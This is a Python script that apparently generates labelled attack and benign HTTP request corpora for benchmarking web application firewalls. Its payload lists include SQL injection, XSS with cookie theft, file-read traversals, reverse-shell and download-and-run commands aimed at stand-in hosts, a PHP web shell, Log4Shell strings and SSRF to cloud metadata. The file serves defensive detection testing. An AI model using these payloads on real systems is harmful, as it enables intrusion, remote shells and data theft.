#!/usr/bin/env python3
"""Write a corpus for bench/waf_replay.py (JSON Lines on standard output).

    bench/waf_corpus.py probe > probe.jsonl          # attacks in 21 places and encodings, and benign traffic
    bench/waf_corpus.py words --seed 1 --count 3000 > words.jsonl   # benign-looking word salad
    bench/waf_corpus.py shapes > shapes.jsonl        # malformed multipart, JSON and XML bodies
    bench/waf_corpus.py edges > edges.jsonl          # encodings and shapes at the parsers' edges
    bench/waf_corpus.py uploads > uploads.jsonl      # multipart as real clients write it
    bench/waf_corpus.py base64 --seed 3 > base64.jsonl   # Node.js payloads in base64, and tokens that are not
    bench/waf_corpus.py events > events.jsonl        # words that begin with "on", and real event handlers
    bench/waf_corpus.py dispositions > dispositions.jsonl   # multipart Content-Disposition headers, odd and ordinary
    bench/waf_corpus.py typed > typed.jsonl          # queries with `"`, `<`, `>`, UTF-8 as curl and Go send them
    bench/waf_corpus.py wfuzz > wfuzz.jsonl          # Debian's wfuzz payload lists (apt-get install wfuzz)
    bench/waf_corpus.py sqlmap > sqlmap.jsonl        # sqlmap's own payloads (apt-get install sqlmap)
    bench/waf_corpus.py wapiti > wapiti.jsonl        # wapiti's attack payloads (apt-get install wapiti)

`probe`: each payload of eleven families (SQLi, XSS, LFI, RFI, RCE, PHP, Java, SSTI, NoSQL,
SSRF, session fixation) in the query (plain, `+`, double-encoded, as a name, polluted), the
path (and behind an encoded `?`), a form, JSON (plain, `\\u`-escaped, nested, with a
charset), XML, multipart, a cookie, the User-Agent, the Referer, a custom header, text/plain,
and after 3,000 bytes of padding; then ordinary requests (prose with quotes and dashes in
four places, JSON APIs, uploads, GraphQL, a JWT, analytics cookies...). `words`: random
phrases of SQL keywords, English words and punctuation in a query or a form, all `benign`:
where two engines disagree on them, one of them misfires. Neither is the external corpus the
issue names; they are for finding where engines differ. `wfuzz`: a corpus written by others,
the payload lists Debian's `wfuzz` package ships (its SQL, XSS, traversal and XML injection
lists and its three directory-traversal lists, every line an `attack`) sent in a query, a
form and, for traversals, the path, and XML bodies for its XML list; `benign`: names from its
`others/names.txt` and phrases of its `general/megabeast.txt` words, in a query and a form.
`sqlmap`: what sqlmap sends, from Debian's `sqlmap` package: each payload of its
`data/xml/payloads` (boolean, error-based, inline, stacked, time-based, UNION) behind three
of its `boundaries.xml` prefixes and suffixes, placeholders filled as it fills them, in a
query and a form; every one an `attack`. `wapiti`: the payloads of Debian's `wapiti` scanner
(`wapitiCore/data/attacks`: XSS, blind SQL, command execution, file handling, XXE),
placeholders filled, in a query and a form (XXE as an XML body); every one an `attack`.
`base64`: Node.js injections (node-serialize's `_$$ND_FUNC$$_`, `while(1){}`, `eval(`, ...)
as base64 with and without its padding, in a query, a cookie and a form, for CRS's rules
that decode base64 (934100, 934160); `benign`: random base64-alphabet tokens, JWTs, UUIDs,
ordinary text and doubly-escaped text, in a query and a cookie. `events`: ordinary words and
settings that begin with "on" (`online`, `ontwerp`, `onboarding=done`, `onSale=1`) in a query,
a form, a Referer and a cookie, `benign`, where libinjection's XSS check looks for
`on…=` event handlers; and XSS with real event handlers (`onclick`, `onauxclick`,
`ontoggle`...), `attack`. `dispositions`: one-part uploads whose `Content-Disposition` is
ordinary, unusual or malformed (escaped quotes, a name given twice, single quotes, case,
unknown parameters, unquoted values), every one `benign` in that it carries no payload.
`typed`: request targets as curl, Go's client or a script send a typed URL, `"`, `<`, `>`
and UTF-8 left as they are: ordinary searches and filters, some in other scripts (`benign`),
and XSS, SQLi, traversal and command injection written the same way (`attack`).
"""
import argparse, base64, json, os, random, urllib.parse

q = lambda s: urllib.parse.quote(s, safe="")
qp = lambda s: urllib.parse.quote_plus(s)

ATTACKS = {
 "sqli": ["' or 1=1--", "1' union select username,password from users--", "1 AND 1=1", "admin'--",
          "1; drop table users", "' OR 'a'='a", "1' AND SLEEP(5)#", "1 UNION/**/SELECT/**/1,2,3",
          "'; exec xp_cmdshell('dir')--", "1' and extractvalue(1,concat(0x7e,version()))--",
          "-1' or 1=1 limit 1 -- -+", "1 or benchmark(10000000,md5(1))", "' having 1=1--",
          "1' ORDER BY 3--", "\" or \"\"=\"", "1)) or ((1=1", "0x31 or 1=1", "' waitfor delay '0:0:5'--",
          "admin' #", "1' || '1'='1", "SELECT * FROM information_schema.tables",
          "1 and (select substring(@@version,1,1))='5'", "' AND 1=(SELECT COUNT(*) FROM tablenames); --",
          "1'/*!50000union*/ select 1,2", "pg_sleep(5)--", "'+convert(int,@@version)+'"],
 "xss": ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>",
         "javascript:alert(document.cookie)", "\"><script>alert(1)</script>", "<body onload=alert(1)>",
         "<iframe src=javascript:alert(1)>", "<a href=\"javascript:alert(1)\">x</a>", "<ScRiPt>alert(1)</sCrIpT>",
         "<img src=\"x\" onerror=\"eval(atob('YWxlcnQoMSk='))\">", "'-alert(1)-'", "<details open ontoggle=alert(1)>",
         "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<input autofocus onfocus=alert(1)>",
         "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">", "<svg><animate onbegin=alert(1) attributeName=x>",
         "\"onmouseover=\"alert(1)", "<div style=\"background:url(javascript:alert(1))\">", "<marquee onstart=alert(1)>",
         "document.location='http://evil/'+document.cookie", "<scr<script>ipt>alert(1)</script>", "%3Cscript%3Ealert(1)%3C/script%3E"],
 "lfi": ["../../../../etc/passwd", "..%2f..%2f..%2fetc%2fpasswd", "/etc/shadow", "....//....//etc/passwd",
         "..\\..\\..\\windows\\win.ini", "/proc/self/environ", "php://filter/convert.base64-encode/resource=index.php",
         "file:///etc/passwd", "../../../../../../boot.ini", "%2e%2e/%2e%2e/etc/hosts", "/var/log/apache2/access.log",
         "..%c0%af..%c0%afetc/passwd", ".htaccess", "/.git/config", "../../../../etc/passwd%00.jpg"],
 "rfi": ["http://evil.example/shell.txt?", "http://203.0.113.5/x.php", "https://evil.example/c99.txt??",
         "ftp://evil.example/shell.php", "http://evil.example/shell.txt%00", "data://text/plain;base64,PD9waHAgcGhwaW5mbygpOz8+"],
 "rce": [";cat /etc/passwd", "| id", "`whoami`", "$(curl http://evil/x|sh)", "; nc -e /bin/sh 10.0.0.1 4444",
         "&& wget http://evil/x -O /tmp/x", "|| ping -c 10 127.0.0.1", "; ls -la /", "${IFS}cat${IFS}/etc/passwd",
         "; bash -i >& /dev/tcp/10.0.0.1/8080 0>&1", "a;/bin/bash -c 'id'", "| powershell -enc SQBFAFgA",
         "; python -c 'import os;os.system(\"id\")'", "$(echo aWQ=|base64 -d)", "';system('id');'", "&& type C:\\windows\\win.ini",
         "; /usr/bin/perl -e 'exec \"/bin/sh\"'", "c\\at /et\\c/pas\\swd", "/???/??t /???/p??s??"],
 "php": ["<?php system($_GET['c']); ?>", "php://input", "<?= `id` ?>", "phpinfo();", "eval(base64_decode('cGhwaW5mbygpOw=='));",
         "O:8:\"stdClass\":1:{s:4:\"test\";s:4:\"test\";}", "assert($_POST['x'])", "file_put_contents('x.php','<?php')",
         "preg_replace('/.*/e','system(\"id\")','')", "$_SERVER['HTTP_USER_AGENT']", "call_user_func('system','id')"],
 "java": ["${jndi:ldap://evil.example/a}", "${${lower:j}ndi:ldap://evil/a}", "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x",
          "java.lang.Runtime.getRuntime().exec('id')", "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}",
          "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==", "${T(java.lang.Runtime).getRuntime().exec('id')}", "#{7*7}",
          "java.lang.ProcessBuilder", "<java><object class=\"java.lang.ProcessBuilder\"></object></java>"],
 "ssti": ["{{7*7}}", "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}", "<%= 7*7 %>", "${7*7}",
          "{{''.__class__.__mro__[1].__subclasses__()}}", "{% import os %}{{os.system('id')}}"],
 "nosqli": ["{\"$gt\": \"\"}", "[$ne]=1", "'; return true; var x='", "{\"$where\": \"sleep(1000)\"}"],
 "ssrf": ["http://169.254.169.254/latest/meta-data/", "http://127.0.0.1:6379/", "gopher://127.0.0.1:25/_HELO",
          "http://[::1]/admin", "http://0x7f000001/", "file:///proc/self/cmdline"],
 "session": ["PHPSESSID=attacker", "jsessionid=1234567890abcdef", "<meta http-equiv=\"Set-Cookie\" content=\"SESSIONID=abc\">",
             "document.cookie=\"sessionid=abc\""],
}

def req(kind, name, path, method="GET", headers=None, body=""):
    d = {"kind": kind, "name": name, "method": method, "path": path, "body": body}
    if headers is not None:
        d["headers"] = headers
    return d

BROWSER = [["User-Agent", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 Chrome/120 Safari/537.36"],
           ["Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"],
           ["Accept-Language", "en-GB,en;q=0.8"]]

def with_h(*extra):
    return BROWSER + [list(e) for e in extra]


def probe():
    out = []
    for fam, payloads in ATTACKS.items():
        for i, p in enumerate(payloads):
            n = f"{fam}#{i}"
            out.append(req("attack", f"{n} query", "/search?q=" + q(p)))
            out.append(req("attack", f"{n} query plus", "/search?q=" + qp(p)))
            out.append(req("attack", f"{n} query double-encoded", "/search?q=" + q(q(p))))
            out.append(req("attack", f"{n} arg name", "/search?" + q(p) + "=1"))
            out.append(req("attack", f"{n} path", "/files/" + q(p)))
            out.append(req("attack", f"{n} path %3F", "/page%3F" + q(p)))
            out.append(req("attack", f"{n} form", "/login", "POST", with_h(("Content-Type", "application/x-www-form-urlencoded")), "user=ann&comment=" + qp(p)))
            out.append(req("attack", f"{n} json", "/api/items", "POST", with_h(("Content-Type", "application/json")), json.dumps({"name": p, "qty": 1})))
            out.append(req("attack", f"{n} json unicode-escaped", "/api/items", "POST", with_h(("Content-Type", "application/json")), json.dumps({"name": p}, ensure_ascii=True).replace("'", "\\u0027").replace("<", "\\u003c")))
            out.append(req("attack", f"{n} json nested", "/api/items", "POST", with_h(("Content-Type", "application/json")), json.dumps({"a": {"b": [{"c": p}]}})))
            out.append(req("attack", f"{n} json charset", "/api/items", "POST", with_h(("Content-Type", "application/json; charset=utf-8")), json.dumps({"name": p})))
            out.append(req("attack", f"{n} xml", "/api/xml", "POST", with_h(("Content-Type", "application/xml")), f"<?xml version=\"1.0\"?><item><name>{p.replace('&','&amp;').replace('<','&lt;')}</name></item>"))
            out.append(req("attack", f"{n} multipart", "/upload", "POST", with_h(("Content-Type", "multipart/form-data; boundary=XyZ")),
                           f"--XyZ\r\nContent-Disposition: form-data; name=\"comment\"\r\n\r\n{p}\r\n--XyZ--\r\n"))
            out.append(req("attack", f"{n} cookie", "/", headers=with_h(("Cookie", "session=abc; pref=" + q(p)))))
            out.append(req("attack", f"{n} user-agent", "/", headers=[["User-Agent", p], ["Accept", "*/*"]]))
            out.append(req("attack", f"{n} referer", "/", headers=with_h(("Referer", "https://shop.example/?q=" + q(p)))))
            out.append(req("attack", f"{n} custom header", "/", headers=with_h(("X-Custom", p))))
            out.append(req("attack", f"{n} long padding", "/search?q=" + "a" * 3000 + q(p)))
            out.append(req("attack", f"{n} padded value", "/search?q=" + q("x " * 1500 + p)))
            out.append(req("attack", f"{n} text/plain body", "/api", "POST", with_h(("Content-Type", "text/plain")), p))
            out.append(req("attack", f"{n} hpp", "/search?q=safe&q=" + q(p)))

    BENIGN_TEXT = [
     "Tom and Jerry or the cat's -- best friend", "I'd like to select a union of both options, or drop it entirely",
     "O'Brien & Sons, 12 Main St.", "Where can I buy 2-3 items at 50% off?", "rock 'n' roll", "price >= 10 and <= 20",
     "Hello! How are you? I'm fine; thanks :-)", "email me at ann.example+shop@example.com", "C++ and C# developers wanted",
     "The script tag is used in HTML", "Use the command line to list files", "from 2026-12-01 to 2026-12-31",
     "Call 555-0100 ext. 2", "She said \"yes\" -- finally!", "What does 1=1 mean in logic?", "cat, dog, and bird",
     "Order #12345 (urgent)", "Meet me @ 5pm; bring the slides", "Résumé naïve café — Zürich", "東京 大阪 名古屋",
     "50/50 split, 1/2 cup sugar", "https://www.example.org/docs?page=2&lang=en", "Java and JavaScript are different",
     "select your size below", "Drop-off is between 9 and 5", "Windows 10 vs. Linux", "a+b=c", "The best (and worst) of times",
     "I want to delete my account", "Alert: your package is on its way", "shipping & handling: $5.99",
     "#hashtag @mention", "100% cotton; machine-wash", "it's a 'quoted' word", "yes/no/maybe", "Q&A: how to exec a plan",
     "Version 2.0.1-beta", "path/to/my/file.txt", "The user's profile", "set-cookie preferences for cookies policy",
    ]
    GA = "_ga=GA1.2.1234567890.1700000000; _gid=GA1.2.987654321.1700000000; _fbp=fb.1.1700000000000.123456789"
    for i, t in enumerate(BENIGN_TEXT):
        out.append(req("benign", f"text#{i} query", "/search?q=" + qp(t)))
        out.append(req("benign", f"text#{i} form", "/contact", "POST", with_h(("Content-Type", "application/x-www-form-urlencoded")), "name=Ann&message=" + qp(t)))
        out.append(req("benign", f"text#{i} json", "/api/reviews", "POST", with_h(("Content-Type", "application/json")), json.dumps({"title": "Review", "body": t, "stars": 4})))
        out.append(req("benign", f"text#{i} multipart", "/upload", "POST", with_h(("Content-Type", "multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxkTrZu0gW")),
                       f"------WebKitFormBoundary7MA4YWxkTrZu0gW\r\nContent-Disposition: form-data; name=\"caption\"\r\n\r\n{t}\r\n------WebKitFormBoundary7MA4YWxkTrZu0gW--\r\n"))
    BENIGN_REQ = [
     req("benign", "home", "/"), req("benign", "asset", "/static/app.3f2a1b.js", headers=with_h(("Accept", "*/*"))),
     req("benign", "image", "/img/logo.png", headers=with_h(("Accept", "image/avif,image/webp,*/*"))),
     req("benign", "ga cookies", "/", headers=with_h(("Cookie", GA))),
     req("benign", "jwt bearer", "/api/me", headers=with_h(("Authorization", "Bearer eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIiwiaWF0IjoxNTE2MjM5MDIyfQ.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c"))),
     req("benign", "redirect param", "/login?next=" + q("https://shop.example/account?tab=orders")),
     req("benign", "utm", "/?utm_source=newsletter&utm_medium=email&utm_campaign=winter_sale_2026&fbclid=IwAR2xyz"),
     req("benign", "long query", "/search?" + "&".join(f"f{i}=v{i}" for i in range(60))),
     req("benign", "uuid path", "/orders/3f2a1b4c-5d6e-7f80-9a1b-2c3d4e5f6a7b"),
     req("benign", "json api array", "/api/cart", "POST", with_h(("Content-Type", "application/json")), json.dumps({"items": [{"sku": "A-1", "qty": 2}, {"sku": "B-2", "qty": 1}], "coupon": None})),
     req("benign", "json put", "/api/profile", "PUT", with_h(("Content-Type", "application/json")), json.dumps({"name": "Ann O'Neil", "bio": "Engineer -- loves rock 'n' roll", "tags": ["a", "b"]})),
     req("benign", "json patch", "/api/profile", "PATCH", with_h(("Content-Type", "application/json")), json.dumps({"phone": "+44 20 7946 0958"})),
     req("benign", "delete", "/api/items/42", "DELETE"),
     req("benign", "graphql", "/graphql", "POST", with_h(("Content-Type", "application/json")), json.dumps({"query": "query Product($id: ID!) { product(id: $id) { name price } }", "variables": {"id": "42"}})),
     req("benign", "base64 image json", "/api/avatar", "POST", with_h(("Content-Type", "application/json")), json.dumps({"image": "data:image/png;base64," + base64.b64encode(bytes(range(256)) * 4).decode()})),
     req("benign", "upload binary", "/upload", "POST", with_h(("Content-Type", "multipart/form-data; boundary=----WebKitFormBoundaryABC")),
         "------WebKitFormBoundaryABC\r\nContent-Disposition: form-data; name=\"file\"; filename=\"report.pdf\"\r\nContent-Type: application/pdf\r\n\r\n%PDF-1.4 binary-ish content 0123456789\r\n------WebKitFormBoundaryABC--\r\n"),
     req("benign", "octet-stream", "/api/blob", "POST", with_h(("Content-Type", "application/octet-stream")), "\u0001\u0002 binary data ' or 1=1 in a blob"),
     req("benign", "markdown comment", "/api/comments", "POST", with_h(("Content-Type", "application/json")), json.dumps({"body": "Run `npm install` and then `npm test`. See [docs](https://example.org/docs)."})),
     req("benign", "search with quotes", "/search?q=" + qp("\"exact phrase\" -excluded")),
     req("benign", "email arg", "/subscribe?email=ann%40example.com"),
     req("benign", "price range", "/search?min=10&max=20&sort=-price"),
     req("benign", "xml soap", "/soap", "POST", with_h(("Content-Type", "text/xml")), "<?xml version=\"1.0\"?><Envelope><Body><GetPrice><Item>Apples</Item></GetPrice></Body></Envelope>"),
     req("benign", "head", "/", "HEAD"), req("benign", "options cors", "/api/items", "OPTIONS", with_h(("Origin", "https://app.example"), ("Access-Control-Request-Method", "POST"))),
     req("benign", "if-none-match", "/static/app.css", headers=with_h(("If-None-Match", "\"abc123\""))),
     req("benign", "range", "/video.mp4", headers=with_h(("Range", "bytes=0-1023"))),
     req("benign", "accept-encoding", "/", headers=with_h(("Accept-Encoding", "gzip, deflate, br, zstd"))),
     req("benign", "curl", "/api/status", headers=[["User-Agent", "curl/8.5.0"], ["Accept", "*/*"]]),
     req("benign", "mobile app", "/api/feed?since=1700000000", headers=[["User-Agent", "ShopApp/5.2 (iPhone; iOS 17.1)"], ["Accept", "application/json"]]),
     req("benign", "unicode path", "/products/" + q("caffè-latte")),
     req("benign", "semicolon matrix", "/catalog;jsessionid=ABC123?x=1"),
     req("benign", "filter expression", "/api/items?filter=" + q("status eq 'open' and priority gt 2")),
     req("benign", "sort fields", "/api/items?sort=created_at,-name&fields=id,name,price"),
     req("benign", "form with url", "/share", "POST", with_h(("Content-Type", "application/x-www-form-urlencoded")), "url=" + qp("https://news.example/article?id=7&ref=home") + "&note=" + qp("Worth a read!")),
     req("benign", "wiki edit", "/wiki/edit", "POST", with_h(("Content-Type", "application/x-www-form-urlencoded")), "text=" + qp("== Heading ==\n* item one\n* item two\n'''bold''' and ''italic''")),
     req("benign", "code snippet", "/api/snippets", "POST", with_h(("Content-Type", "application/json")), json.dumps({"code": "for (let i = 0; i < 10; i++) { console.log(i); }"})),
     req("benign", "address", "/checkout", "POST", with_h(("Content-Type", "application/x-www-form-urlencoded")), "addr=" + qp("Flat 3, 14 St. John's Rd; London") + "&zip=" + qp("SW1A 1AA")),
    ]
    out += BENIGN_REQ
    return out


WORDS = "the a and or not select from where union order by group having drop table insert into values update set delete like in is null true false on off yes no it's don't can't O'Brien rock'n'roll 1 2 10 42 3.5 -1 0x1f 1e3 $5 50% #1 @home user admin test foo bar id name email price date 2026-12-01 12:30 a.b c/d e-f g_h (x) [y] {z} <b> ; , . : ! ? ' \" ` -- /* */ = < > + - * & | ^ ~ \\ script alert on load src http://example.org www.example.com cat ls echo sleep benchmark char concat exec system eval".split(" ")


def words(seed, count):
    rng = random.Random(seed)
    out = []
    for _ in range(count):
        n = rng.randint(2, 9)
        text = " ".join(rng.choice(WORDS) for _ in range(n))
        if rng.random() < 0.3:
            text = text.replace(" ", rng.choice(["", "+", "_", "  "]))
        place = rng.random()
        q = urllib.parse.quote_plus(text)
        if place < 0.6:
            d = {"kind": "benign", "name": "q " + text, "method": "GET", "path": "/search?q=" + q}
        else:
            d = {"kind": "benign", "name": "form " + text, "method": "POST", "path": "/f", "headers": [["User-Agent", "Mozilla/5.0 (X11; Linux x86_64) Chrome/120"], ["Accept", "*/*"], ["Content-Type", "application/x-www-form-urlencoded"]], "body": "a=1&msg=" + q}
        out.append(d)
    return out


# Body shapes a parser and an application may read differently (or not at all), each POSTed
# with its Content-Type: `attack` where a payload rides in them.
SHAPES = [
    ("benign", "ok", "multipart/form-data; boundary=XyZ", "--XyZ\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\nhello\r\n--XyZ--\r\n"),
    ("benign", "no final boundary", "multipart/form-data; boundary=XyZ", "--XyZ\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\nhello\r\n"),
    ("benign", "data before", "multipart/form-data; boundary=XyZ", "junk\r\n--XyZ\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\nhello\r\n--XyZ--\r\n"),
    ("attack", "data after", "multipart/form-data; boundary=XyZ", "--XyZ\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\nhello\r\n--XyZ--\r\njunk' or 1=1--"),
    ("benign", "LF only", "multipart/form-data; boundary=XyZ", "--XyZ\nContent-Disposition: form-data; name=\"a\"\n\nhello\n--XyZ--\n"),
    ("benign", "quoted boundary", "multipart/form-data; boundary=\"XyZ\"", "--XyZ\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\nhello\r\n--XyZ--\r\n"),
    ("benign", "boundary whitespace", "multipart/form-data; boundary= XyZ", "--XyZ\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\nhello\r\n--XyZ--\r\n"),
    ("benign", "header folding", "multipart/form-data; boundary=XyZ", "--XyZ\r\nContent-Disposition: form-data;\r\n name=\"a\"\r\n\r\nhello\r\n--XyZ--\r\n"),
    ("benign", "missing semicolon", "multipart/form-data; boundary=XyZ", "--XyZ\r\nContent-Disposition: form-data name=\"a\"\r\n\r\nhello\r\n--XyZ--\r\n"),
    ("benign", "invalid quoting", "multipart/form-data; boundary=XyZ", "--XyZ\r\nContent-Disposition: form-data; name=\"a\r\n\r\nhello\r\n--XyZ--\r\n"),
    ("benign", "unmatched boundary", "multipart/form-data; boundary=XyZ", "--XyZ\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\nhello\r\n--XyZa\r\nx\r\n--XyZ--\r\n"),
    ("benign", "no content-disposition", "multipart/form-data; boundary=XyZ", "--XyZ\r\nContent-Type: text/plain\r\n\r\nhello\r\n--XyZ--\r\n"),
    ("benign", "two boundaries param", "multipart/form-data; boundary=XyZ; boundary=abc", "--XyZ\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\nhello\r\n--XyZ--\r\n"),
    ("attack", "attack in filename", "multipart/form-data; boundary=XyZ", "--XyZ\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a';select 1--.txt\"\r\nContent-Type: text/plain\r\n\r\nhello\r\n--XyZ--\r\n"),
    ("attack", "attack in part name", "multipart/form-data; boundary=XyZ", "--XyZ\r\nContent-Disposition: form-data; name=\"<script>alert(1)</script>\"\r\n\r\nhello\r\n--XyZ--\r\n"),
    ("attack", "attack in part header", "multipart/form-data; boundary=XyZ", "--XyZ\r\nContent-Disposition: form-data; name=\"a\"\r\nX-Note: <script>alert(1)</script>\r\n\r\nhello\r\n--XyZ--\r\n"),
    ("attack", "attack after bad boundary", "multipart/form-data; boundary=XyZ", "--XyZ \r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n' union select password from users--\r\n--XyZ--\r\n"),
    ("benign", "charset in ct", "multipart/form-data; charset=utf-7; boundary=XyZ", "--XyZ\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\nhello\r\n--XyZ--\r\n"),
    ("attack", "filename*", "multipart/form-data; boundary=XyZ", "--XyZ\r\nContent-Disposition: form-data; name=\"f\"; filename*=UTF-8''shell.php\r\n\r\n<?php system($_GET['c']); ?>\r\n--XyZ--\r\n"),
    ("attack", "json body ct text", "text/plain", "{\"a\": \"' or 1=1--\"}"),
    ("attack", "json ct uppercase", "Application/JSON", "{\"a\": \"' or 1=1--\"}"),
    ("attack", "json vnd", "application/vnd.api+json", "{\"a\": \"' or 1=1--\"}"),
    ("benign", "bad json", "application/json", "{\"a\": \"hello\""),
    ("attack", "json deep", "application/json", "[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[\"' or 1=1--\"]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]"),
    ("benign", "xml bad", "application/xml", "<a><b>hello</a>"),
    ("benign", "urlencoded charset", "application/x-www-form-urlencoded; charset=ibm037", "a=hello"),
    ("benign", "utf-16 json", "application/json; charset=utf-16", "{\"a\": \"hello\"}"),
]


def shapes():
    head = [["User-Agent", "Mozilla/5.0 (X11; Linux x86_64) Chrome/120"], ["Accept", "*/*"]]
    return [{"kind": kind, "name": name, "method": "POST", "path": "/upload", "headers": head + [["Content-Type", ct]],
             "body": body} for kind, name, ct, body in SHAPES]


def edges():
    """Encodings and request shapes at the edges of what engines parse: `;` and `[]` arguments,
    odd cookies, JSON with Unicode escapes and vendor types, fullwidth, no-break and
    typographic characters, CJK and emoji, IIS `%u` escapes, overlong UTF-8, XXE, attacks in
    argument and cookie names."""
    import urllib.parse as u
    out = []

    def r(kind, name, path, method="GET", headers=None, body=""):
        out.append(req(kind, name, path, method, headers, body))

    h = with_h
    J = ("Content-Type", "application/json")
    F = ("Content-Type", "application/x-www-form-urlencoded")
    # benign edge shapes
    r("benign","semicolon args","/s?a=1;b=2;c=select%20a%20plan")
    r("benign","empty arg names","/s?=1&&b&c=")
    r("benign","cookie odd","/",headers=h(("Cookie","a=1; b=2;c=3; =x; flag; q=\"quoted value\"")))
    r("benign","cookie json","/",headers=h(("Cookie","prefs=%7B%22theme%22%3A%22dark%22%2C%22lang%22%3A%22en%22%7D")))
    r("benign","json nested","/api","POST",h(J),json.dumps({"a":[1,2,[3,{"b":None,"c":True}]],"d":{"e":{"f":"g"}},"n":-1.5e3}))
    r("benign","json unicode","/api","POST",h(J),'{"name":"Zo\\u00eb O\\u2019Brien","city":"K\\u00f8benhavn"}')
    r("benign","json charset","/api","POST",h(("Content-Type","application/json; charset=utf-8")),json.dumps({"comment":"Select the best option, and/or drop me a line."}))
    r("benign","vnd json","/api","POST",h(("Content-Type","application/vnd.api+json")),json.dumps({"data":{"type":"articles","attributes":{"title":"Rails is Omakase"}}}))
    r("benign","form charset","/f","POST",h(("Content-Type","application/x-www-form-urlencoded; charset=UTF-8")),"name=Ann+Lee&msg="+u.quote_plus("Where are you from? I'm from Paris & I like it."))
    r("benign","referer query","/",headers=h(("Referer","https://www.google.com/search?q=select+from+where+tutorial")))
    r("benign","percent path","/files/a%2Fb.txt")
    r("benign","double enc pct","/s?q=100%2525")
    r("benign","nbsp prose","/s?q="+u.quote("price\u00a0list and\u00a0more"))
    r("benign","emoji","/s?q="+u.quote("pizza 🍕 or pasta 🍝?"))
    r("benign","cjk","/s?q="+u.quote("東京 ラーメン おすすめ"))
    r("benign","long token","/s?token="+"A"*600)
    r("benign","base64 arg","/s?d=eyJ1c2VyIjoiYWRtaW4iLCJyb2xlIjoiZWRpdG9yIn0%3D")
    r("benign","multi same arg","/s?tag=a&tag=b&tag=c&tag=d")
    r("benign","array args","/s?ids[]=1&ids[]=2&filter[name]=x&filter[age][gt]=3")
    r("benign","math expr","/calc?e="+u.quote("(2+3)*4-1=19"))
    r("benign","sql-looking prose","/s?q="+u.quote("how to select rows where the date is null"))
    r("benign","c code","/paste","POST",h(F),"code="+u.quote_plus("int main(){ printf(\"hi\\n\"); return 0; }"))
    r("benign","html mention","/s?q="+u.quote("what does the <b> tag do"))
    r("benign","windows path","/s?p="+u.quote("C:\\Users\\ann\\Documents"))
    r("benign","xml body","/x","POST",h(("Content-Type","application/xml")),"<order><id>5</id><note>rock &amp; roll</note></order>")
    r("benign","graphql mutation","/graphql","POST",h(J),json.dumps({"query":"mutation { updateUser(id: 1, name: \"Ann\") { id } }"}))
    r("benign","http url arg","/r?u="+u.quote("http://example.org/page?x=1&y=2"))
    r("benign","email list","/s?to="+u.quote("a@example.com, b@example.org"))
    r("benign","phone","/s?tel="+u.quote("+1 (555) 010-9999"))
    r("benign","date range","/s?from=2026-01-01&to=2026-12-31")
    # attacks with encodings/edge shapes
    r("attack","iis unicode quote","/s?id=1%u0027%20or%201=1--")
